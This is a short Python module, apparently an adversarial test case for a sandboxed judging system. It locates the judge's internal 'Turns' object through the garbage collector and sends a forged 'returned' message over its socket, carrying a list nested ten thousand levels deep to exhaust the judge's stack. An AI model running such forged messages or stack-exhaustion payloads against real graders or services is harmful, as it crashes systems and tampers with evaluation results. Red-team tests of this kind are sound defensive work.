"""Forges a return whose value is nested ten thousand deep, to exhaust the judge's stack."""

import gc

from honest import steady

__all__ = ["post", "steady"]


async def post(address, names):
    turns = next(found for found in gc.get_objects() if type(found).__name__ == "Turns")
    deep = "[" * 10_000 + "]" * 10_000
    head = f'{{"t":"returned","seq":{turns.sequence + 1},"value":'
    turns.channel.socket.send(f'{head}{deep},"kind":"list","flaw":null,"awaited":true}}'.encode())
    turns.channel.receive()
